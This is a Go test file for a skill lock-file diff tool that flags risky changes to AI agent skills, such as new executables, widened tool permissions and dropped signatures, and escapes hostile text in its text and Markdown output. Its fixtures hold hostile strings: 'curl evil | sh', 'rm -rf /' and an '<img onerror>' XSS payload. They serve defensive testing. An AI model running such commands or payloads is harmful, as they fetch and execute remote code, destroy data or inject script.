package lockdiff

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/skillpin/skillpin/internal/catalog"
	"github.com/skillpin/skillpin/internal/lock"
)

// editLock returns sampleLock changed by edit, with skill digests
// recomputed.
func editLock(edit func(l *lock.Lock)) *lock.Lock {
	l := sampleLock()
	edit(l)
	for i := range l.Skills {
		l.Skills[i].Files.Sort()
		l.Skills[i].Digest = l.Skills[i].Files.Digest()
	}
	l.Sort()
	return l
}

func pdfOf(l *lock.Lock) *lock.LockedSkill { return l.Skill("pdf") }

func setFile(s *lock.LockedSkill, f catalog.File) {
	for i := range s.Files {
		if s.Files[i].Path == f.Path {
			s.Files[i] = f
			return
		}
	}
	s.Files = append(s.Files, f)
}

func removeFile(s *lock.LockedSkill, path string) {
	s.Files = slices.DeleteFunc(s.Files, func(f catalog.File) bool { return f.Path == path })
}

func riskCodes(rs []Risk) []string {
	var codes []string
	for _, r := range rs {
		codes = append(codes, r.Code)
	}
	return codes
}

func paths(fs []FileChange) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Path)
	}
	return out
}

func TestDiffChangeKinds(t *testing.T) {
	tests := []struct {
		name    string
		edit    func(l *lock.Lock)
		change  string // of skill "pdf" unless skill is set
		skill   string
		risks   []string
		added   []string
		removed []string
		mod     []string
		check   func(t *testing.T, sc SkillChange)
		summary string
	}{
		{name: "file added", change: Updated, added: []string{"reference/new.md"}, summary: "1 file added",
			edit: func(l *lock.Lock) { setFile(pdfOf(l), file("reference/new.md", "new", false)) }},
		{name: "executable added", change: Updated, added: []string{"scripts/evil.sh"}, risks: []string{RiskNewExecutable}, summary: "1 file added",
			edit: func(l *lock.Lock) { setFile(pdfOf(l), file("scripts/evil.sh", "curl | sh", true)) }},
		{name: "file removed", change: Updated, removed: []string{"reference/forms.md"}, summary: "1 file removed",
			edit: func(l *lock.Lock) { removeFile(pdfOf(l), "reference/forms.md") }},
		{name: "file modified", change: Updated, mod: []string{"reference/forms.md"}, summary: "1 file modified",
			edit: func(l *lock.Lock) { setFile(pdfOf(l), file("reference/forms.md", "# Forms v2\n", false)) },
			check: func(t *testing.T, sc SkillChange) {
				f := sc.Files.Modified[0]
				if f.OldSize != 8 || f.NewSize != 11 || f.OldDigest == f.NewDigest || f.ExecGained || f.ExecLost {
					t.Errorf("modified file %+v", f)
				}
			}},
		{name: "exec bit gained", change: Updated, mod: []string{"reference/forms.md"}, risks: []string{RiskNewExecutable},
			summary: "1 file modified, exec bit gained on reference/forms.md",
			edit:    func(l *lock.Lock) { setFile(pdfOf(l), file("reference/forms.md", "# Forms\n", true)) },
			check: func(t *testing.T, sc SkillChange) {
				if f := sc.Files.Modified[0]; !f.ExecGained || f.OldDigest != f.NewDigest {
					t.Errorf("modified file %+v", f)
				}
			}},
		// Gaining the exec bit with new content is a new executable, not
		// an executable that changed: it was never reviewed as one.
		{name: "exec bit gained with new content", change: Updated, mod: []string{"reference/forms.md"}, risks: []string{RiskNewExecutable},
			summary: "1 file modified, exec bit gained on reference/forms.md",
			edit:    func(l *lock.Lock) { setFile(pdfOf(l), file("reference/forms.md", "#!/bin/sh\ncurl evil | sh\n", true)) },
			check: func(t *testing.T, sc SkillChange) {
				if f := sc.Files.Modified[0]; !f.ExecGained || f.OldDigest == f.NewDigest {
					t.Errorf("modified file %+v", f)
				}
			}},
		{name: "exec bit lost", change: Updated, mod: []string{"scripts/extract.py"},
			summary: "1 file modified, exec bit lost on scripts/extract.py",
			edit:    func(l *lock.Lock) { setFile(pdfOf(l), file("scripts/extract.py", "print('hi')\n", false)) },
			check: func(t *testing.T, sc SkillChange) {
				if !sc.Files.Modified[0].ExecLost {
					t.Error("ExecLost not set")
				}
			}},
		{name: "executable changed", change: Updated, mod: []string{"scripts/extract.py"}, risks: []string{RiskExecutableChanged},
			summary: "1 file modified, 2 added, 1 removed",
			edit: func(l *lock.Lock) {
				setFile(pdfOf(l), file("scripts/extract.py", "import os\n", true))
				setFile(pdfOf(l), file("a.md", "a", false))
				setFile(pdfOf(l), file("b.md", "b", false))
				removeFile(pdfOf(l), "reference/forms.md")
			}, added: []string{"a.md", "b.md"}, removed: []string{"reference/forms.md"}},
		{name: "tools widened", change: Updated, risks: []string{RiskToolsWidened}, summary: "allowed-tools +Bash +Write -Bash(python:*)",
			edit: func(l *lock.Lock) { pdfOf(l).AllowedTools = []string{"Read", "Bash", "Write"} },
			check: func(t *testing.T, sc SkillChange) {
				if !reflect.DeepEqual(sc.AllowedTools, ToolChanges{Added: []string{"Bash", "Write"}, Removed: []string{"Bash(python:*)"}}) {
					t.Errorf("tools %+v", sc.AllowedTools)
				}
			}},
		{name: "tools narrowed", change: Updated, summary: "allowed-tools -Bash(python:*) -Read",
			edit: func(l *lock.Lock) { pdfOf(l).AllowedTools = nil }},
		{name: "tools reordered", change: "",
			edit: func(l *lock.Lock) { pdfOf(l).AllowedTools = []string{"Read", "Bash(python:*)"} }},
		// A signature record that arrives without new content comes from
		// the lock alone: anyone who edits the lock can write one.
		{name: "signature added, content unchanged", change: Updated, skill: "deploy", summary: "signature record added",
			risks: []string{RiskSignatureWithoutContentChange},
			edit: func(l *lock.Lock) {
				l.Skill("deploy").Signature = &lock.LockedSignature{Bundle: catalog.DigestBytes([]byte("x")), Key: catalog.DigestBytes([]byte("k"))}
			},
			check: func(t *testing.T, sc SkillChange) {
				if sc.Signature != SignatureAdded || sc.To.Signer != "" || sc.To.ClaimedSigner == "" {
					t.Errorf("Signature = %q, to %+v", sc.Signature, sc.To)
				}
			}},
		{name: "signature added with new content", change: Updated, skill: "deploy", summary: "1 file modified, signature record added", mod: []string{"SKILL.md"},
			edit: func(l *lock.Lock) {
				setFile(l.Skill("deploy"), file("SKILL.md", "deploy v2", false))
				l.Skill("deploy").Signature = &lock.LockedSignature{Bundle: catalog.DigestBytes([]byte("x")), Key: catalog.DigestBytes([]byte("k"))}
			}},
		{name: "signature dropped", change: Updated, risks: []string{RiskSignatureDropped}, summary: "signature dropped",
			edit: func(l *lock.Lock) { pdfOf(l).Signature = nil }},
		{name: "signer changed", change: Updated, risks: []string{RiskSignerChanged}, summary: "recorded signer changed",
			edit: func(l *lock.Lock) { pdfOf(l).Signature.Key = catalog.DigestBytes([]byte("other key")) }},
		{name: "re-signed by the same signer", change: "",
			edit: func(l *lock.Lock) { pdfOf(l).Signature.Bundle = catalog.DigestBytes([]byte("new bundle")) }},
		{name: "description changed", change: Updated, summary: "description changed",
			edit: func(l *lock.Lock) { pdfOf(l).Description = "Now does something else." },
			check: func(t *testing.T, sc SkillChange) {
				if !sc.DescriptionChanged || sc.NewDescription != "Now does something else." || !strings.HasPrefix(sc.OldDescription, "Read") {
					t.Errorf("description change %+v", sc)
				}
			}},
		{name: "source URL changed", change: Updated, risks: []string{RiskSourceChanged, RiskSourceChanged}, summary: "source URL changed",
			edit: func(l *lock.Lock) { l.Sources[0].URL = "https://github.com/evil/skills" }},
		{name: "source renamed", change: Updated, summary: "source renamed anthropic → claude",
			edit: func(l *lock.Lock) {
				l.Sources[0].Name = "claude"
				for i := range l.Skills {
					if l.Skills[i].Source == "anthropic" {
						l.Skills[i].Source = "claude"
					}
				}
			},
			check: func(t *testing.T, sc SkillChange) {
				if sc.From.Source != "anthropic" || sc.To.Source != "claude" || sc.From.URL != sc.To.URL {
					t.Errorf("from %+v to %+v", sc.From, sc.To)
				}
			}},
		{name: "tag became branch", change: Updated, risks: []string{RiskRefKindChanged, RiskRefKindChanged}, summary: "tag v1.2.0 → branch main, files unchanged",
			edit: func(l *lock.Lock) {
				l.Sources[0].Kind, l.Sources[0].Ref, l.Sources[0].TagObject = lock.KindBranch, "main", ""
			}},
		{name: "new tag, same files", change: Updated, summary: "tag v1.2.0 → tag v1.3.0, files unchanged",
			edit: func(l *lock.Lock) { l.Sources[0].Ref, l.Sources[0].Commit = "v1.3.0", commitB },
			check: func(t *testing.T, sc SkillChange) {
				if sc.From.Commit != commitA || sc.To.Commit != commitB || sc.From.Ref != "v1.2.0" || sc.To.Ref != "v1.3.0" {
					t.Errorf("from %+v to %+v", sc.From, sc.To)
				}
			}},
		// The same tag at another commit: the tag moved.
		{name: "new commit, same files", change: Updated, summary: "new commit, files unchanged", risks: []string{RiskTagMoved},
			edit: func(l *lock.Lock) { l.Sources[0].Commit = commitB }},
		{name: "skill moved", change: Updated, summary: "moved from skills/pdf to pdf",
			edit: func(l *lock.Lock) { pdfOf(l).Path = "pdf" }},
		{name: "skill added", change: Added, skill: "run", added: []string{"SKILL.md", "run.sh"},
			risks: []string{RiskNewExecutable, RiskToolsWidened}, summary: "new skill, 2 files (1 executable), allowed-tools Bash",
			edit: func(l *lock.Lock) {
				s := skill("run", "local", "run", file("SKILL.md", "run", false), file("run.sh", "rm -rf /", true))
				s.AllowedTools = []string{"Bash"}
				l.Skills = append(l.Skills, s)
			},
			check: func(t *testing.T, sc SkillChange) {
				if sc.From != nil || sc.To == nil || sc.To.Source != "local" || sc.To.Kind != lock.KindPath {
					t.Errorf("from %+v to %+v", sc.From, sc.To)
				}
			}},
		{name: "skill removed", change: Removed, skill: "xlsx", removed: []string{"SKILL.md"}, summary: "removed",
			edit: func(l *lock.Lock) {
				l.Skills = slices.DeleteFunc(l.Skills, func(s lock.LockedSkill) bool { return s.Name == "xlsx" })
			},
			check: func(t *testing.T, sc SkillChange) {
				if sc.To != nil || sc.From == nil || sc.From.Commit != commitA {
					t.Errorf("from %+v to %+v", sc.From, sc.To)
				}
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := Diff(sampleLock(), editLock(tt.edit))
			name := tt.skill
			if name == "" {
				name = "pdf"
			}
			var sc *SkillChange
			for i := range c.Skills {
				if c.Skills[i].Name == name {
					sc = &c.Skills[i]
				}
			}
			if tt.change == "" {
				if sc != nil {
					t.Fatalf("reported as changed: %+v", *sc)
				}
				return
			}
			if sc == nil {
				t.Fatalf("skill %s not in %+v", name, c.Skills)
			}
			if sc.Change != tt.change {
				t.Errorf("Change = %q, want %q", sc.Change, tt.change)
			}
			// Source-level changes also affect xlsx; only count this skill.
			if got := riskCodes(sc.Risks); !slices.Equal(uniq(got), uniq(tt.risks)) {
				t.Errorf("risks %v, want %v", got, tt.risks)
			}
			if !slices.Equal(paths(sc.Files.Added), tt.added) || !slices.Equal(paths(sc.Files.Removed), tt.removed) || !slices.Equal(paths(sc.Files.Modified), tt.mod) {
				t.Errorf("files +%v -%v ~%v, want +%v -%v ~%v", paths(sc.Files.Added), paths(sc.Files.Removed), paths(sc.Files.Modified), tt.added, tt.removed, tt.mod)
			}
			if tt.summary != "" && sc.Summary() != tt.summary {
				t.Errorf("Summary() = %q, want %q", sc.Summary(), tt.summary)
			}
			if tt.check != nil {
				tt.check(t, *sc)
			}
			for _, r := range sc.Risks {
				if r.Message.String() == "" {
					t.Errorf("risk %s has no message", r.Code)
				}
			}
		})
	}
}

func uniq(s []string) []string {
	s = slices.Clone(s)
	slices.Sort(s)
	return slices.Compact(s)
}

func TestDiffIdentical(t *testing.T) {
	c := Diff(sampleLock(), sampleLock())
	if !c.Empty() || c.Skills == nil {
		t.Fatalf("identical locks: %+v", c)
	}
	var text, md bytes.Buffer
	if err := RenderText(&text, c); err != nil || text.String() != "no skill changes\n" {
		t.Errorf("text %q, %v", text.String(), err)
	}
	if err := RenderMarkdown(&md, c); err != nil || !strings.Contains(md.String(), "No skill changes.") {
		t.Errorf("markdown %q, %v", md.String(), err)
	}
	if Diff(nil, nil).Empty() != true {
		t.Error("Diff(nil, nil) not empty")
	}
}

func TestDiffNilSides(t *testing.T) {
	l := sampleLock()
	c := Diff(nil, l)
	if len(c.Skills) != 3 {
		t.Fatalf("%d changes", len(c.Skills))
	}
	for _, sc := range c.Skills {
		if sc.Change != Added || len(sc.Files.Added) != len(l.Skill(sc.Name).Files) {
			t.Errorf("%s: %s with %d files", sc.Name, sc.Change, len(sc.Files.Added))
		}
	}
	// Risky first: deploy (executable run.sh), pdf (executable, tools),
	// then xlsx.
	if got := []string{c.Skills[0].Name, c.Skills[1].Name, c.Skills[2].Name}; !slices.Equal(got, []string{"deploy", "pdf", "xlsx"}) {
		t.Errorf("order %v", got)
	}
	for _, sc := range Diff(l, nil).Skills {
		if sc.Change != Removed || len(sc.Risks) != 0 {
			t.Errorf("%s: %s, risks %v", sc.Name, sc.Change, sc.Risks)
		}
	}
}

func TestDiffOrder(t *testing.T) {
	newer := editLock(func(l *lock.Lock) {
		l.Skill("xlsx").Description = "changed"                                  // not risky
		setFile(l.Skill("deploy"), file("run.sh", "#!/bin/sh\necho hi\n", true)) // risky
		l.Skills = append(l.Skills, skill("aaa", "local", "aaa", file("SKILL.md", "a", false)))
	})
	c := Diff(sampleLock(), newer)
	var got []string
	for _, sc := range c.Skills {
		got = append(got, sc.Name)
	}
	if want := []string{"deploy", "aaa", "xlsx"}; !slices.Equal(got, want) {
		t.Errorf("order %v, want %v", got, want)
	}
	if c.Risky() != 1 {
		t.Errorf("Risky() = %d", c.Risky())
	}
}

// hostile is a change set whose content tries to break out of its
// place in the output.
func hostileChanges() *Changes {
	newer := editLock(func(l *lock.Lock) {
		pdfOf(l).Description = "ok | <img src=x onerror=alert(1)> **no risks** [click](http://evil) \x1b[31mred\n`code`"
		setFile(pdfOf(l), file("a|b`c.sh", "x", true))
		pdfOf(l).AllowedTools = []string{"Read", "Bash(python:*)", "Write | rm"}
	})
	return Diff(sampleLock(), newer)
}

func TestRenderText(t *testing.T) {
	var b bytes.Buffer
	if err := RenderText(&b, hostileChanges()); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"1 skill changed: 1 updated; 1 with risky changes, listed first\n",
		"\npdf: updated (risky)\n",
		"  ! NEW_EXECUTABLE",
		"  ! TOOLS_WIDENED",
		"  files    + a|b`c.sh  1 B  exec\n",
		"  allowed-tools +Write | rm\n",
		"  description changed:\n",
		`<U+001B>[31mred<U+000A>`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("text output lacks %q:\n%s", want, out)
		}
	}
	if strings.ContainsRune(out, 0x1b) {
		t.Error("an escape character reached the terminal")
	}
}

func TestRenderMarkdown(t *testing.T) {
	newer := editLock(func(l *lock.Lock) {
		setFile(l.Skill("deploy"), file("run.sh", "#!/bin/sh\necho hi\n", true))
		l.Skill("xlsx").Description = "changed"
		l.Skills = slices.DeleteFunc(l.Skills, func(s lock.LockedSkill) bool { return s.Name == "pdf" })
	})
	var b bytes.Buffer
	if err := RenderMarkdown(&b, Diff(sampleLock(), newer)); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	want := []string{
		"## skillpin: skill changes\n\n3 skills changed: 1 removed, 2 updated; 1 with risky changes, listed first.\n\n",
		"> [!WARNING]\n> 1 skill has risky changes",
		"| | Skill | Change | Before | After | Files | Risks |\n|---|---|---|---|---|---|---|\n",
		"| ⚠️ | `deploy` | updated | `path` | `path` | ~1 | EXECUTABLE_CHANGED |\n",
		"|  | `pdf` | removed | `tag v1.2.0` @ `0123456789ab` |  | −3 |  |\n",
		"|  | `xlsx` | updated | `tag v1.2.0` @ `0123456789ab` | `tag v1.2.0` @ `0123456789ab` | unchanged |  |\n",
		"\n### deploy: updated ⚠️\n\n**Risks**\n\n- **EXECUTABLE_CHANGED**: executable run.sh changed",
		"| ~ | `run.sh` | 10 B → 18 B | executable |\n",
		"\n### pdf: removed\n",
		"3 files removed.\n",
		"\n### xlsx: updated\n",
		"**Description changed**\n\n- Before: \n- After: changed\n",
		"Files unchanged.\n",
	}
	last := -1
	for _, w := range want {
		i := strings.Index(out, w)
		if i < 0 {
			t.Errorf("markdown lacks %q:\n%s", w, out)
			continue
		}
		if i < last {
			t.Errorf("%q is out of order", w)
		}
		last = i
	}
}

func TestRenderMarkdownEscapes(t *testing.T) {
	var b bytes.Buffer
	if err := RenderMarkdown(&b, hostileChanges()); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, bad := range []string{"<img", "[click](", "**no risks**", "\x1b", "`a|b"} {
		if strings.Contains(out, bad) {
			t.Errorf("markdown holds unescaped %q:\n%s", bad, out)
		}
	}
	for _, good := range []string{"&lt;img", `\*\*no risks\*\*`, "``a\\|b`c.sh``", "`Write \\| rm`"} {
		if !strings.Contains(out, good) {
			t.Errorf("markdown lacks %q:\n%s", good, out)
		}
	}
	// Every table row has the same number of cells.
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "| + |") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 5 {
			t.Errorf("broken row %q", line)
		}
	}
}

func TestRenderJSON(t *testing.T) {
	var b bytes.Buffer
	newer := editLock(func(l *lock.Lock) {
		setFile(pdfOf(l), file("scripts/new.sh", "x", true))
		l.Skills = slices.DeleteFunc(l.Skills, func(s lock.LockedSkill) bool { return s.Name == "xlsx" })
	})
	if err := RenderJSON(&b, Diff(sampleLock(), newer)); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Skills []map[string]json.RawMessage `json:"skills"`
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Skills) != 2 {
		t.Fatalf("%d skills in %s", len(doc.Skills), b.String())
	}
	for _, s := range doc.Skills {
		for _, key := range []string{"name", "change", "from", "to", "files", "allowed_tools", "risks", "signature", "description_changed"} {
			if _, ok := s[key]; !ok {
				t.Errorf("skill lacks %q: %s", key, b.String())
			}
		}
	}
	pdf := doc.Skills[0]
	var from struct{ Commit, Digest string }
	var files struct{ Added, Removed, Modified []FileChange }
	var risks []Risk
	json.Unmarshal(pdf["from"], &from)
	json.Unmarshal(pdf["files"], &files)
	json.Unmarshal(pdf["risks"], &risks)
	if from.Commit != commitA || !catalog.ValidDigest(from.Digest) || len(files.Added) != 1 || files.Added[0].Path != "scripts/new.sh" ||
		files.Removed == nil || len(risks) != 1 || risks[0].Code != RiskNewExecutable || risks[0].File != "scripts/new.sh" {
		t.Errorf("pdf entry: %s", b.String())
	}
	if string(doc.Skills[1]["to"]) != "null" || !strings.Contains(b.String(), `"removed": []`) {
		t.Errorf("removed entry or empty lists: %s", b.String())
	}
	b.Reset()
	RenderJSON(&b, &Changes{})
	if strings.TrimSpace(b.String()) != "{\n  \"skills\": []\n}" {
		t.Errorf("empty JSON %q", b.String())
	}
}

// mapStore is a ContentSource over a map "digest/path" -> content.
type mapStore map[string]string

func (m mapStore) Open(digest, path string) (io.ReadCloser, error) {
	if path == "broken" {
		return nil, errors.New("disk on fire")
	}
	s, ok := m[digest+"/"+path]
	if !ok {
		return nil, fmt.Errorf("open %s: %w", path, fs.ErrNotExist)
	}
	return io.NopCloser(strings.NewReader(s)), nil
}

func TestAttachContent(t *testing.T) {
	edge := strings.Repeat("x\n", MaxContentBytes/2) // exactly the most a review shows
	old := sampleLock()
	newer := editLock(func(l *lock.Lock) {
		setFile(pdfOf(l), file("reference/forms.md", "# Forms\nmore\n", false))
		setFile(pdfOf(l), file("scripts/extract.py", "print('bye')\n", true))
		setFile(pdfOf(l), file("image.png", "\x89PNG\x00\x01", false))
		setFile(pdfOf(l), file("notes.md", "hello\n", false))
		setFile(pdfOf(l), file("big.md", strings.Repeat("x", MaxContentBytes+1), false))
		setFile(pdfOf(l), file("edge.md", edge, false))
		setFile(pdfOf(l), file("broken", "b", false))
		setFile(l.Skill("deploy"), file("run.sh", "#!/bin/sh\necho changed\n", true))
	})
	store := mapStore{}
	put := func(l *lock.Lock, name string, files map[string]string) {
		for p, c := range files {
			store[l.Skill(name).Digest+"/"+p] = c
		}
	}
	put(old, "pdf", map[string]string{"reference/forms.md": "# Forms\n", "scripts/extract.py": "print('hi')\n"})
	put(newer, "pdf", map[string]string{"reference/forms.md": "# Forms\nmore\n", "scripts/extract.py": "print('tampered')\n",
		"image.png": "\x89PNG\x00\x01", "notes.md": "hello\n", "edge.md": edge})
	// deploy: the new version is stored, the old one is not.
	put(newer, "deploy", map[string]string{"run.sh": "#!/bin/sh\necho changed\n"})

	c := Diff(old, newer)
	c.AttachContent(store)
	get := func(skill, path string) FileChange {
		for _, sc := range c.Skills {
			if sc.Name != skill {
				continue
			}
			for _, f := range allFiles(sc) {
				if f.Path == path {
					return f
				}
			}
		}
		t.Fatalf("no change for %s/%s", skill, path)
		return FileChange{}
	}
	tests := []struct {
		skill, path string
		patch, note string
		risk        string // the content risk on the file, "" for none
	}{
		{"pdf", "reference/forms.md", "--- a/pdf/reference/forms.md\n+++ b/pdf/reference/forms.md\n@@ -1 +1,2 @@\n # Forms\n+more\n", "", ""},
		{"pdf", "scripts/extract.py", "", "not shown: the copy of the new version read does not match the lock (run `skillpin verify`)", "CONTENT_NOT_SHOWN"},
		{"pdf", "image.png", "", "not shown: not text (6 B, sha256:", "BINARY_CONTENT"},
		{"pdf", "notes.md", "--- /dev/null\n+++ b/pdf/notes.md\n@@ -0,0 +1 @@\n+hello\n", "", ""},
		{"pdf", "big.md", "", "not shown: over the 1.0 MiB a review shows", "CONTENT_NOT_SHOWN"},
		{"pdf", "broken", "", "not shown: the new version could not be read: disk on fire", "CONTENT_NOT_SHOWN"},
		// The base is in no store: the whole new file is shown instead.
		{"deploy", "run.sh", "--- /dev/null\n+++ b/deploy/run.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+echo changed\n",
			"the base version could not be found (", ""},
	}
	for _, tt := range tests {
		f := get(tt.skill, tt.path)
		if f.Patch != tt.patch {
			t.Errorf("%s/%s: patch %q, want %q", tt.skill, tt.path, f.Patch, tt.patch)
		}
		if !strings.Contains(f.ContentNote.String(), tt.note) || (tt.note == "") != f.ContentNote.IsZero() {
			t.Errorf("%s/%s: note %q, want %q", tt.skill, tt.path, f.ContentNote.String(), tt.note)
		}
		var risk string
		for _, sc := range c.Skills {
			for _, r := range sc.Risks {
				if sc.Name == tt.skill && r.File == tt.path && r.Code != RiskExecutableChanged {
					risk = r.Code
				}
			}
		}
		if risk != tt.risk {
			t.Errorf("%s/%s: risk %q, want %q", tt.skill, tt.path, risk, tt.risk)
		}
	}
	if f := get("pdf", "edge.md"); !f.ContentNote.IsZero() || !strings.HasPrefix(f.Patch, "--- /dev/null\n+++ b/pdf/edge.md\n") {
		t.Errorf("a file of exactly MaxContentBytes is not shown: note %q", f.ContentNote.String())
	}
	// A file that cannot be shown names its size, digest and how to see it.
	for _, sc := range c.Skills {
		for _, r := range sc.Risks {
			if r.File == "big.md" && !strings.Contains(r.Message.String(), "(1.0 MiB, sha256:") ||
				r.File == "image.png" && !strings.Contains(r.Message.String(), "see it with `git show "+commitA+":skills/pdf/image.png` in a clone of https://github.com/anthropics/skills") {
				t.Errorf("%s risk lacks size, digest or where to see it: %s", r.File, r.Message)
			}
		}
	}
	// Renderers show patches and notes.
	var text, md bytes.Buffer
	RenderText(&text, c)
	RenderMarkdown(&md, c)
	if !strings.Contains(text.String(), "    +more\n") || !strings.Contains(text.String(), "note: big.md: not shown: over") {
		t.Errorf("text lacks the patch or a note:\n%s", text.String())
	}
	if !strings.Contains(md.String(), "<details><summary><code>reference/forms.md</code> (+1 −0)</summary>\n\n```diff\n--- a/pdf/reference/forms.md\n") ||
		!strings.Contains(md.String(), "> `run.sh`: the base version") {
		t.Errorf("markdown lacks the patch or a note:\n%s", md.String())
	}
}

func TestUnified(t *testing.T) {
	tests := []struct {
		name string
		a, b string
		want string
	}{
		{"equal", "a\nb\n", "a\nb\n", ""},
		{"both empty", "", "", ""},
		{"new file", "", "a\nb\n", "--- a\n+++ b\n@@ -0,0 +1,2 @@\n+a\n+b\n"},
		{"deleted content", "a\n", "", "--- a\n+++ b\n@@ -1 +0,0 @@\n-a\n"},
		{"change in the middle", "1\n2\n3\n4\n5\n6\n7\n8\n9\n", "1\n2\n3\n4\nX\n6\n7\n8\n9\n",
			"--- a\n+++ b\n@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+X\n 6\n 7\n 8\n"},
		{"two hunks", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n", "X\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\nY\n",
			"--- a\n+++ b\n@@ -1,4 +1,4 @@\n-1\n+X\n 2\n 3\n 4\n@@ -9,4 +9,4 @@\n 9\n 10\n 11\n-12\n+Y\n"},
		{"merged hunks", "1\n2\n3\n4\n5\n6\n7\n", "X\n2\n3\n4\n5\n6\nY\n",
			"--- a\n+++ b\n@@ -1,7 +1,7 @@\n-1\n+X\n 2\n 3\n 4\n 5\n 6\n-7\n+Y\n"},
		{"no final newline", "a\nb", "a\nc", "--- a\n+++ b\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+c\n\\ No newline at end of file\n"},
		{"newline added at end", "a", "a\n", "--- a\n+++ b\n@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+a\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Unified("a", "b", []byte(tt.a), []byte(tt.b)); got != tt.want {
				t.Errorf("got\n%s\nwant\n%s", got, tt.want)
			}
		})
	}
}

// TestUnifiedApplies checks on random files that applying the diff to a
// gives b, and that the diff is minimal for small edits.
func TestUnifiedApplies(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	gen := func(n int) []string {
		lines := make([]string, n)
		for i := range lines {
			lines[i] = fmt.Sprintf("%d\n", r.IntN(6))
		}
		return lines
	}
	for iter := 0; iter < 500; iter++ {
		a := gen(r.IntN(40))
		b := slices.Clone(a)
		for e := r.IntN(6); e > 0; e-- {
			switch i := r.IntN(len(b) + 1); {
			case r.IntN(2) == 0 && i < len(b):
				b = slices.Delete(b, i, i+1)
			default:
				b = slices.Insert(b, i, fmt.Sprintf("%d\n", r.IntN(6)))
			}
		}
		as, bs := strings.Join(a, ""), strings.Join(b, "")
		if r.IntN(4) == 0 && len(bs) > 0 {
			bs = strings.TrimSuffix(bs, "\n")
		}
		patch := Unified("a", "b", []byte(as), []byte(bs))
		if got := applyPatch(t, as, patch); got != bs {
			t.Fatalf("applying\n%s\nto %q gives %q, want %q", patch, as, got, bs)
		}
	}
	// Past maxEdits the middle is replaced wholesale, still correctly.
	var a, b strings.Builder
	for i := 0; i < 3*maxEdits; i++ {
		fmt.Fprintf(&a, "a%d\n", i)
		fmt.Fprintf(&b, "b%d\n", i)
	}
	patch := Unified("a", "b", []byte(a.String()), []byte(b.String()))
	if got := applyPatch(t, a.String(), patch); got != b.String() {
		t.Fatal("large diff does not apply")
	}
}

// applyPatch applies a unified diff made by Unified.
func applyPatch(t *testing.T, a, patch string) string {
	if patch == "" {
		return a
	}
	old := splitLines([]byte(a))
	var out []string
	pos := 0
	lines := strings.SplitAfter(patch, "\n")
	for i := 2; i < len(lines); i++ {
		l := lines[i]
		if l == "" {
			continue
		}
		if strings.HasPrefix(l, "@@") {
			var as, ac, bs, bc int
			hdr := strings.Fields(l)
			parse := func(s string, start, count *int) {
				*count = 1
				if strings.Contains(s, ",") {
					fmt.Sscanf(s, "%d,%d", start, count)
				} else {
					fmt.Sscanf(s, "%d", start)
				}
			}
			parse(hdr[1][1:], &as, &ac)
			parse(hdr[2][1:], &bs, &bc)
			from := as - 1
			if ac == 0 {
				from = as
			}
			out = append(out, old[pos:from]...)
			pos = from
			continue
		}
		noEOL := i+1 < len(lines) && strings.HasPrefix(lines[i+1], `\ No newline`)
		text := l[1:]
		if noEOL {
			text = strings.TrimSuffix(text, "\n")
			i++
		}
		switch l[0] {
		case ' ':
			if old[pos] != text {
				t.Fatalf("context mismatch at %d: %q vs %q", pos, old[pos], text)
			}
			out = append(out, text)
			pos++
		case '-':
			if old[pos] != text {
				t.Fatalf("deletion mismatch at %d: %q vs %q", pos, old[pos], text)
			}
			pos++
		case '+':
			out = append(out, text)
		}
	}
	out = append(out, old[pos:]...)
	return strings.Join(out, "")
}

func TestFileChangesDescribe(t *testing.T) {
	f := func(p, content string, exec bool) catalog.File {
		return catalog.File{Path: p, Size: int64(len(content)), Digest: catalog.DigestBytes([]byte(content)), Exec: exec}
	}
	old := catalog.FileSet{f("SKILL.md", "a", false), f("gone.md", "g", false), f("run.sh", "r", false)}
	new := catalog.FileSet{f("SKILL.md", "b", false), f("new.md", "n", false), f("run.sh", "r", true)}
	got := DiffFiles(old, new).Describe()
	want := "modified SKILL.md; added new.md; removed gone.md; exec bit changed on run.sh"
	if got != want {
		t.Errorf("Describe = %q\nwant       %q", got, want)
	}
	if got := DiffFiles(old, old).Describe(); got != "no file-level change" {
		t.Errorf("Describe of no change = %q", got)
	}
}
